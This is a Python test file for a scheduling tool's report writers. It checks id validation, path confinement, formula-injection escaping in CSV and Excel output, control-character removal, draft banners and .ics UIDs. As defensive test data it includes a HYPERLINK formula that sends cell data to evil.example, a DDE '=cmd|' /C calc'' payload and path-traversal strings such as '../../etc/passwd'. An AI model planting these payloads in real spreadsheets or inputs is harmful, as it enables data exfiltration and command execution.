"""Publishing safety (issue 10, items 3, 4, 5, 9, 11): ids checked, file names that stay in
--out and never collide, no live formulas, no control characters, drafts marked, stable
.ics UIDs."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile

import pytest
from conftest import TINY, TINY_MEETINGS
from icalendar import Calendar as ICalendar
from openpyxl import load_workbook
from pydantic import TypeAdapter, ValidationError
from typer.testing import CliRunner

from scheduler.changes import ChangeSet
from scheduler.cli import app
from scheduler.i18n import LABELS, LANGS
from scheduler.instance import Id, Instance
from scheduler.io import InputError, load_calendar, to_json
from scheduler.meetings import Calendar, Meeting, content_uid, csv_rows, csv_text, uid_of
from scheduler.planner import solve
from scheduler.replan import keep_ids, replan
from scheduler.report import inside, write_report
from scheduler.report.command import report_command
from scheduler.report.ics import ics_files
from scheduler.safe_text import append_row, csv_cell, one_line, xml_text
from scheduler.workbook import write_instance_workbook

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _calendar(meetings=TINY_MEETINGS, **more) -> Calendar:
    return Calendar(instance="tiny", profile="kz-2024", horizon="2027-H1",
                    approval_date=TINY.approval_date, status=more.pop("status", "OPTIMAL"),
                    meetings=tuple(meetings), **more)


def _files(tmp_path, calendar: Calendar, instance: Instance = TINY):
    inst, cal = tmp_path / "instance.json", tmp_path / "calendar.json"
    inst.write_text(to_json(instance), encoding="utf-8")
    cal.write_text(to_json(calendar), encoding="utf-8")
    return inst, cal


def _events(path) -> list:
    return ICalendar.from_ical(path.read_bytes()).walk("VEVENT")


# ------------------------------------------------------------- item 3: ids, paths
@pytest.mark.parametrize("value", ["../../etc/passwd", "a/b", "a\\b", "", "x" * 65, "a b",
                                   "минздрав", "..", "health-q1", "ok_1.2"])
def test_calendar_ids_are_validated_exactly_as_instance_ids(value):
    """Every id field of a meeting takes what the instance's Id takes, and nothing else."""
    try:
        TypeAdapter(Id).validate_python(value)
        valid = True
    except ValidationError:
        valid = False
    base = TINY_MEETINGS[0].model_dump()
    for field in ("id", "official_id", "presenter_id", "body_id", "region_id", "district_id",
                  "alert_id"):
        try:
            Meeting.model_validate({**base, field: value})
            assert valid, field
        except ValidationError:
            assert not valid, field
    try:
        Meeting.model_validate({**base, "issue_ids": [value]})
        assert valid
    except ValidationError:
        assert not valid


def test_report_refuses_a_calendar_with_a_path_in_an_id(tmp_path, capsys):
    instance, calendar = _files(tmp_path, _calendar())
    data = json.loads(calendar.read_text(encoding="utf-8"))
    data["meetings"][0]["presenter_id"] = "../../outside"
    calendar.write_text(json.dumps(data), encoding="utf-8")
    assert report_command(instance, calendar, tmp_path / "out") == 2
    err = capsys.readouterr().err
    assert "calendar.json" in err and "presenter_id" in err
    assert not (tmp_path / "out").exists() and not (tmp_path / "outside.ics").exists()


def test_a_path_leading_outside_out_is_refused_and_nothing_is_written(tmp_path, kz2024,
                                                                        capsys):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    elsewhere.mkdir()
    out.mkdir()
    with pytest.raises(InputError, match="outside"):
        inside(out, "ics/../../x.ics")
    (out / "ics").symlink_to(elsewhere, target_is_directory=True)  # ics/ leads elsewhere
    with pytest.raises(InputError, match="outside"):
        write_report(TINY, kz2024, _calendar(), out)
    assert list(elsewhere.iterdir()) == [] and not (out / "calendar.xlsx").exists()
    instance, calendar = _files(tmp_path, _calendar())
    assert report_command(instance, calendar, out) == 2
    assert "outside" in capsys.readouterr().err and list(elsewhere.iterdir()) == []


def test_an_official_named_like_a_region_gets_its_own_file(tmp_path, kz2024):
    """Officials and regions live in two folders: an official whose id is a region's id
    (or 'region-astana') never overwrites the region's calendar."""
    data = json.loads(to_json(TINY))
    text = json.dumps(data).replace('"akim-mangystau"', '"astana"')
    inst = Instance.model_validate(json.loads(text))
    meetings = [m.model_copy(update={"official_id": "astana", "presenter_id": "astana"})
                if m.official_id == "akim-mangystau" else m for m in TINY_MEETINGS]
    write_report(inst, kz2024, _calendar(meetings), tmp_path)
    official = {str(e["DESCRIPTION"]).rsplit(": ", 1)[-1]
                for e in _events(tmp_path / "ics" / "officials" / "astana.ics")}
    region = _events(tmp_path / "ics" / "regions" / "astana.ics")
    assert official == {"akim-mangystau-q1", "akim-mangystau-q2"}
    assert len(region) == sum(m.region_id == "astana" for m in meetings)


def test_ics_files_of_an_earlier_run_are_pruned(tmp_path, kz2024):
    stale = [tmp_path / "ics" / "officials" / "gone.ics", tmp_path / "ics" / "regions" / "x.ics",
             tmp_path / "ics" / "minister-health.ics", tmp_path / "ics" / "region-astana.ics"]
    kept = [tmp_path / "ics" / "notes.txt", tmp_path / "mine.ics"]
    for path in stale + kept:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("old", encoding="utf-8")
    paths = write_report(TINY, kz2024, _calendar(), tmp_path)
    assert not any(p.exists() for p in stale) and all(p.exists() for p in kept)
    assert set((tmp_path / "ics").rglob("*.ics")) == {p for p in paths if p.suffix == ".ics"}


# ------------------------------------------------------ item 4: formula injection
def test_safe_text_helpers():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("Astana") == "Astana" and csv_cell("") == ""
    assert xml_text("a\x0bb\x00c\nd") == "abc\nd"
    assert one_line(" Министр\nздравоохранения\x0b\tи\r\n\x01 ") == "Министр здравоохранения и"


def _poisoned() -> Instance:
    """The tiny instance with formulas in every text the documents show."""
    data = json.loads(to_json(TINY))
    for table in ("regions", "bodies"):
        for item in data[table]:
            item["name"] = {k: f"{FORMULA}{k}" for k in ("ru", "kk", "en")}
    for item in data["officials"]:
        item["title"] = {k: f"+{item['id']}" for k in ("ru", "kk", "en")}
    for item in data["issues"]:
        item["text"] = {k: f"@SUM(1;2){k}" for k in ("ru", "kk", "en")}
    for item in data["regions"]:
        item["centre"]["name"] = "-2+3"
    data["alerts"][0]["text"] = "=cmd|' /C calc'!A0"
    return Instance.model_validate(data)


def test_no_workbook_cell_is_a_formula(tmp_path, kz2024):
    inst = _poisoned()
    meetings = [m.model_copy(update={"issue_ids": tuple(i.id for i in inst.issues
                                                        if i.region_id == m.region_id)})
                for m in TINY_MEETINGS]
    calendar = _calendar(meetings, status="=1+1").model_copy(update={"instance": "=2+2"})
    write_report(inst, kz2024, calendar, tmp_path)
    book = load_workbook(tmp_path / "calendar.xlsx")
    texts = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
                    texts += 1
    assert texts > 50
    with zipfile.ZipFile(tmp_path / "calendar.xlsx") as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.endswith(".xml"))


def test_no_instance_workbook_cell_is_a_formula_and_the_text_reads_back(tmp_path):
    from scheduler.workbook import read_instance_workbook

    inst = _poisoned()
    write_instance_workbook(inst, tmp_path / "instance.xlsx")
    book = load_workbook(tmp_path / "instance.xlsx")
    assert all(cell.data_type != "f" for ws in book.worksheets for row in ws.iter_rows()
               for cell in row)
    back = read_instance_workbook(tmp_path / "instance.xlsx")
    assert back.regions[0].name.ru == inst.regions[0].name.ru
    assert back.alerts[0].text == inst.alerts[0].text


def test_csv_never_starts_a_formula():
    meetings = [m.model_copy(update={"reason": "=cmd|' /C calc'!A0", "id": f"-{m.id}"})
                for m in TINY_MEETINGS]
    text = csv_text(_calendar(meetings))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == len(meetings) + 1
    for row in rows:
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
    assert all(row[0].startswith("'-") for row in rows[1:])
    assert all("'=cmd|' /C calc'!A0" in row for row in rows[1:])
    assert all(row["reason"].startswith("'=") for row in csv_rows(_calendar(meetings)))


def test_append_row_keeps_numbers_and_dates():
    from openpyxl import Workbook

    ws = Workbook().active
    append_row(ws, [-5, dt.date(2027, 1, 1), "=1", "a\x0bb", None])
    a, b, c, d, e = ws[1]
    assert (a.value, a.data_type) == (-5, "n") and b.is_date
    assert (c.value, c.data_type, c.quotePrefix) == ("=1", "s", True)
    assert d.value == "ab" and e.value is None


# ----------------------------------------------------- item 5: control characters
def _with_control_characters() -> Instance:
    """Text that slipped past the loader: a line break in a title, a vertical tab in an
    issue text, a line break in a region's name (the writers must not crash)."""
    inst = Instance.model_validate(json.loads(to_json(TINY)))
    object.__setattr__(inst.official("minister-health").title, "ru", "Министр\nздравоохранения")
    object.__setattr__(inst.issues[0].text, "ru", "вода\x0bи\x01газ")
    object.__setattr__(inst.regions[0].name, "ru", "Астана\r\n")
    return inst


def test_control_characters_never_crash_the_writers(tmp_path, kz2024):
    inst = _with_control_characters()
    meetings = [m.model_copy(update={"issue_ids": (inst.issues[0].id,)}) for m in TINY_MEETINGS]
    write_report(inst, kz2024, _calendar(meetings), tmp_path)
    health = tmp_path / "ics" / "officials" / "minister-health.ics"
    events = _events(health)
    assert events and all("Министр здравоохранения" in str(e["SUMMARY"]) for e in events)
    assert all("вода игаз" in str(e["DESCRIPTION"]) for e in events)  # VT a space, SOH gone
    assert "Астана" in ICalendar.from_ical(
        (tmp_path / "ics" / "regions" / "astana.ics").read_bytes())["X-WR-CALNAME"]
    with zipfile.ZipFile(tmp_path / "calendar.xlsx") as z:
        assert not any(b"\x0b" in z.read(n) or b"\x01" in z.read(n) for n in z.namelist())
    load_workbook(tmp_path / "calendar.xlsx")


# ------------------------------------------------------------- item 9: drafts
BROKEN = [m for m in TINY_MEETINGS if m.id != "health-q2"]  # FREQ-CEB-QUARTER: no Q2 meeting


def test_report_refuses_a_calendar_that_breaks_hard_rules(tmp_path, capsys):
    instance, calendar = _files(tmp_path, _calendar(BROKEN))
    assert report_command(instance, calendar, tmp_path / "out", lang="en") == 1
    err = capsys.readouterr().err
    assert "FREQ-CEB-QUARTER" in err and "--draft" in err
    assert not (tmp_path / "out").exists()
    result = runner.invoke(app, ["report", str(instance), str(calendar), "--out",
                                 str(tmp_path / "out")])
    assert result.exit_code == 1 and not (tmp_path / "out").exists()


@pytest.mark.parametrize("lang", LANGS)
def test_a_draft_says_so_in_every_document(tmp_path, lang):
    instance, calendar = _files(tmp_path, _calendar(BROKEN))
    out = tmp_path / "out"
    result = runner.invoke(app, ["report", str(instance), str(calendar), "--out", str(out),
                                 "--draft", "--lang", lang])
    assert result.exit_code == 0, result.output
    banner = LABELS["draft_banner"][lang].format(n=1)
    html = (out / "report.html").read_text(encoding="utf-8")
    assert f'<p class="draft">{banner}</p>' in html
    assert html.index(banner) < html.index("<h2")  # first page, before the summary
    assert "color: #c00000" in html
    assert LABELS["OPTIMAL"][lang] not in html  # never "OPTIMAL: proven" for a broken one
    book = load_workbook(out / "calendar.xlsx")
    first = book.worksheets[0]
    assert first.title.startswith(LABELS["draft"]["ru"])
    assert first["A2"].value == LABELS["draft_banner"]["ru"].format(n=1)
    assert first["A3"].value == LABELS["draft_banner"]["kk"].format(n=1)
    assert first["A4"].value == "FREQ-CEB-QUARTER" and first["A2"].font.color.rgb.endswith("C00000")
    for ws in book.worksheets:
        assert LABELS["draft"]["ru"] in ws.oddHeader.center.text
    summary = " ".join(str(c.value) for row in book.worksheets[1].iter_rows() for c in row)
    assert LABELS["OPTIMAL"]["ru"] not in summary and LABELS["OPTIMAL"]["kk"] not in summary
    for path in (out / "ics").rglob("*.ics"):
        for event in _events(path):
            assert str(event["DESCRIPTION"]).startswith(banner)
            assert str(event["SUMMARY"]).startswith(LABELS["draft"][lang])


def test_a_sound_calendar_is_not_marked(tmp_path, kz2024):
    write_report(TINY, kz2024, _calendar(), tmp_path)
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert 'class="draft"' not in html and LABELS["OPTIMAL"]["ru"] in html
    book = load_workbook(tmp_path / "calendar.xlsx")
    assert not book.worksheets[0].title.startswith(LABELS["draft"]["ru"])
    assert not book.worksheets[0].oddHeader.center.text


# ---------------------------------------------------------- item 11: .ics UIDs
def test_events_carry_sequence_and_last_modified(tmp_path):
    created = dt.datetime(2026, 12, 10, 9, 0, tzinfo=dt.timezone.utc)
    files = ics_files(TINY, _calendar(created=created))
    events = [e for content in files.values() for e in ICalendar.from_ical(content).walk("VEVENT")]
    assert events
    for e in events:
        assert e["SEQUENCE"] == 0 and e.decoded("LAST-MODIFIED") == created


def test_a_uid_never_names_another_officials_meeting():
    """Two fresh plans that number meetings differently (the ids of one official's meetings
    go to another's): a UID they share is always the same official's meeting."""
    ids = [m.id for m in TINY_MEETINGS]
    shuffled = [m.model_copy(update={"id": ids[(i + 3) % len(ids)]})
                for i, m in enumerate(TINY_MEETINGS)]
    a, b = _calendar(), _calendar(shuffled)
    uids_a = {uid_of(a, m): m for m in a.meetings}
    uids_b = {uid_of(b, m): m for m in b.meetings}
    assert len(uids_a) == len(a.meetings)
    for uid in set(uids_a) & set(uids_b):
        assert uids_a[uid].official_id == uids_b[uid].official_id
    assert not set(uids_a) & set(uids_b)  # here no official keeps a meeting's id


def test_an_old_calendar_without_uids_loads_with_a_stable_uid(tmp_path):
    data = json.loads(to_json(_calendar()))
    for m in data["meetings"]:
        for key in ("uid", "sequence", "modified"):
            m.pop(key)
    path = tmp_path / "old.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    old = load_calendar(path)
    m = old.meetings[0]
    assert m.uid is None and m.sequence == 0
    assert uid_of(old, m) == content_uid("tiny", "2027-H1", m.official_id, m.kind.value,
                                         m.alert_id, m.id)
    assert ics_files(TINY, old) == ics_files(TINY, load_calendar(path))


def test_a_uid_used_twice_is_refused(tmp_path):
    meetings = [m.model_copy(update={"uid": "same"}) for m in TINY_MEETINGS[:2]]
    path = tmp_path / "calendar.json"
    path.write_text(_calendar(TINY_MEETINGS[2:]).model_dump_json().replace(
        '"meetings":[', '"meetings":[' + ",".join(m.model_dump_json() for m in meetings) + ","),
        encoding="utf-8")
    with pytest.raises(InputError, match="uid 'same' is used twice"):
        load_calendar(path)


def test_keep_ids_keeps_uids_and_bumps_the_sequence_of_changed_meetings():
    first = dt.datetime(2026, 12, 10, tzinfo=dt.timezone.utc)
    later = dt.datetime(2027, 1, 20, tzinfo=dt.timezone.utc)
    published = _calendar(created=first)
    moved = {"health-q2": {"date": dt.date(2027, 5, 22)},
             "education-q2": {"presenter_id": "vice-minister-education"}}
    fresh = [m.model_copy(update={"id": f"new-{n}", **moved.get(m.id, {})})
             for n, m in enumerate(TINY_MEETINGS)]
    added = TINY_MEETINGS[0].model_copy(update={"id": "new-x", "date": dt.date(2027, 3, 20),
                                                "quarter": 1})
    again = keep_ids(published, _calendar(fresh + [added], created=later))
    before = {m.id: m for m in published.meetings}
    for m in again.meetings:
        if m.id in before:
            assert m.uid == uid_of(published, before[m.id])
            assert m.sequence == (1 if m.id in moved else 0)
            assert m.modified == (later if m.id in moved else first)
        else:  # the added meeting: a uid no published meeting has
            assert m.uid not in {uid_of(published, old) for old in published.meetings}
            assert m.sequence == 0 and m.modified == later
    twice = keep_ids(again, again.model_copy(update={"meetings": tuple(
        m.model_copy(update={"date": dt.date(2027, 5, 29)}) if m.id == "health-q2" else m
        for m in again.meetings)}))
    assert next(m for m in twice.meetings if m.id == "health-q2").sequence == 2


def test_a_replan_keeps_each_meetings_uid_and_bumps_the_moved_one(tiny_instance, kz2024):
    published = solve(tiny_instance, kz2024, time_limit=20, workers=1, seed=0).calendar
    meeting = next(m for m in published.meetings if m.official_id == "minister-health"
                   and m.date >= dt.date(2027, 3, 10))
    new_day = meeting.date + dt.timedelta(days=7 - meeting.date.weekday() + 5)  # a Saturday
    result = replan(tiny_instance, kz2024, published, ChangeSet.model_validate({"requests": [{
        "id": "R1", "body_id": "health", "submitted": "2027-01-20", "action": "move",
        "meeting_id": meeting.id, "date": new_day.isoformat()}]}), dt.date(2027, 2, 1),
        time_limit=20, workers=1, seed=0)
    assert result.calendar is not None
    before = {m.id: m for m in published.meetings}
    for m in result.calendar.meetings:
        assert m.uid == uid_of(published, before[m.id])
        assert m.sequence == (1 if m.id == meeting.id else 0)
    files = ics_files(result.instance, result.calendar)
    text = files["officials/minister-health.ics"].decode()
    assert re.search(r"SEQUENCE:1\r\n", text) and "LAST-MODIFIED:" in text
